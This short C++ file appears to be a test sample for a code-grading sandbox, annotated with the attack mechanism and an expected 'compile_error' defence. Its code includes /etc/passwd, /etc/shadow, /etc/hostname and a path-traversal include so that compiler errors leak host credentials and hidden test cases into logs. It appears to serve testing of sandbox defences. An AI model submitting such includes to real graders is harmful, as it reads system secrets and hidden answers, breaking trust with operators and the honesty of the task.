// Includes the host's files for the compiler to quote.
//
// Mechanism: an error quotes every line of an included file that is not C++.
// Surface: a compiler that sees the host's files, and a log that students read.
// Gain: passwords, keys, hidden cases, read in the report.
// Challenge: twice
// Defence: compile_error
// On: cpu
// Box: docker
// Secret: /etc/passwd, /etc/shadow, /etc/hostname

#include <cstdint>
#include "/etc/passwd"
#if __has_include("/etc/shadow")
#include "/etc/shadow"
#endif
#if __has_include("/etc/hostname")
#include "/etc/hostname"
#endif
#include "../../../../../../etc/passwd"
extern "C" void solve(const float* x, float* out, int64_t n) {}
